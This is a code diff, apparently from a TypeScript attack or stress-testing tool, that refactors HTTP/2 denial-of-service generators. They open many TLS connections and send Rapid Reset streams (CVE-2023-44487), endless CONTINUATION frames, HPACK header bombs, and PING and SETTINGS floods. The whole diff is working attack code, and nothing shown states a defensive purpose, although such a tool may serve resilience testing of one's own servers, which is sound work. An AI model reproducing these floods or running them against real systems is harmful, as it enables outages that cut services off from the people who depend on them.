@@ -156,13 +156,14 @@ const request = headerBlock([
   [':path', '/alive'],
 ]);
 
-/** HTTP/2 connections that all send these frames as fast as they are taken, this often. */
-function overHttp2(frames: () => Buffer, times: number): Attack {
+/** HTTP/2 connections that all send frames as fast as they are taken, this often; `begin` gives what makes those of one. */
+function overHttp2(begin: () => () => Buffer, times: number): Attack {
   return async ({ https }, count) => {
     const sockets = await many(count, () => secure(https, 'h2'));
     for (const socket of sockets) {
       socket.resume();
       socket.write(preface);
+      const frames = begin();
       let left = times;
       const send = (): void => {
         while (left > 0 && socket.writable) {
@@ -178,53 +179,56 @@ function overHttp2(frames: () => Buffer, times: number): Attack {
 }
 
 /** Requests that are reset at once (CVE-2023-44487), `times` 100 of them. */
-export const rapidReset = (times: number): Attack => {
-  const state = { stream: -1 };
-  return overHttp2(() => {
-    const burst: Buffer[] = [];
-    for (let index = 0; index < 100; index += 1) {
-      state.stream += 2;
-      burst.push(
-        frame(frameType.headers, endHeaders | endStream, state.stream, request),
-        frame(frameType.rstStream, 0, state.stream, uint32(8)),
-      );
-    }
-    return Buffer.concat(burst);
+export const rapidReset = (times: number): Attack =>
+  overHttp2(() => {
+    let stream = -1;
+    return () => {
+      const burst: Buffer[] = [];
+      for (let index = 0; index < 100; index += 1) {
+        stream += 2;
+        burst.push(
+          frame(frameType.headers, endHeaders | endStream, stream, request),
+          frame(frameType.rstStream, 0, stream, uint32(8)),
+        );
+      }
+      return Buffer.concat(burst);
+    };
   }, times);
-};
 
 /** A header section without an end. */
-export const continuations: Attack = (target, count) => {
-  let isFirst = true;
-  const more = frame(frameType.continuation, 0, 1, headerBlock([['x-filler', 'x'.repeat(8_000)]]));
-  return overHttp2(() => {
-    const begin = isFirst ? frame(frameType.headers, endStream, 1, request) : Buffer.alloc(0);
-    isFirst = false;
-    return Buffer.concat([begin, more]);
-  }, 500)(target, count);
-};
+export const continuations: Attack = overHttp2(() => {
+  let next = frame(frameType.headers, endStream, 1, request);
+  return () => {
+    const sent = next;
+    next = frame(frameType.continuation, 0, 1, headerBlock([['x-filler', 'x'.repeat(8_000)]]));
+    return sent;
+  };
+}, 500);
 
 /** Fields of some kilobytes that a byte stands for. */
-export const hpackBombs: Attack = (target, count) => {
+export const hpackBombs: Attack = overHttp2(() => {
   const long = Buffer.concat([
     Buffer.from([0x40, 1]),
     Buffer.from('x'),
     Buffer.from([0x7f, 0x81, 0x1e]),
     Buffer.alloc(4_000, 0x61),
   ]);
-  const bomb = [
+  const bomb = Buffer.concat([
     frame(frameType.headers, endStream, 1, Buffer.concat([request, long])),
     frame(frameType.continuation, endHeaders, 1, Buffer.alloc(12_000, 0xbe)),
-  ];
-  return overHttp2(() => Buffer.concat(bomb), 1)(target, count);
-};
+  ]);
+  return () => bomb;
+}, 1);
 
-export const pings: Attack = overHttp2(
-  () => Buffer.concat(Array.from({ length: 100 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8)))),
-  50,
-);
+export const pings: Attack = overHttp2(() => {
+  const burst = Buffer.concat(
+    Array.from({ length: 100 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
+  );
+  return () => burst;
+}, 50);
 
 export const settings: Attack = overHttp2(() => {
   const change = Buffer.concat([Buffer.from([0, 4]), uint32(70_000)]);
-  return Buffer.concat(Array.from({ length: 100 }, () => frame(frameType.settings, 0, 0, change)));
+  const burst = Buffer.concat(Array.from({ length: 100 }, () => frame(frameType.settings, 0, 0, change)));
+  return () => burst;
 }, 50);
